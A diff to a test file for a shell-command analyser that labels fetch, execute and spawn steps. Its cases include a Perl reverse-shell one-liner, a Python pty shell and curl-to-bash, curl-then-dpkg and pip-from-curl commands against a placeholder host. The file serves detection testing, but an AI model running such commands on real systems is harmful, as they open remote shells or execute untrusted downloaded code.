@@ -106,6 +106,9 @@ describe('what is fetched or decoded, and run', () => {
     [`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$p);open(STDIN,">&S");exec("/bin/sh -i");'`, ['execute perl use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$p);open(STDIN,">&S");exec("/bin/sh -i");', 'connect perl use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$p);open(STDIN,">&S");exec("/bin/sh -i");', 'execute<fetched> perl use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$p);open(STDIN,">&S");exec("/bin/sh -i");', 'spawn sh /bin/sh -i']],
     [`python3 -c 'import socket,pty;pty.spawn("sh")'`, ['execute python3 import socket,pty;pty.spawn("sh")']],
     ['concurrently "curl https://a.example | sh" "tsc -w"', ['fetch curl https://a.example', 'execute<fetched> sh sh', 'spawn tsc tsc -w']],
+    ['curl -s https://a.example/x -o- | tee /tmp/z | bash', ['fetch curl https://a.example/x', 'execute<fetched> bash bash']],
+    ['curl https://a.example/x.deb -o x.deb && dpkg -i x.deb', ['fetch curl https://a.example/x.deb', 'execute<fetched> dpkg dpkg -i x.deb']],
+    ['pip install -r <(curl https://a.example/r)', ['fetch curl https://a.example/r', 'execute<fetched> pip pip install -r /dev/fd/3']],
     ['npm run go', ['fetch curl https://a.example/go', 'execute<fetched> sh sh', 'spawn npm npm run go']],
     ['make', ['spawn make make', 'fetch curl https://a.example/m', 'execute<fetched> sh sh']],
   ])('%s', (line, expected) => expect(linesOf(line)).toEqual(expect.arrayContaining(expected)))
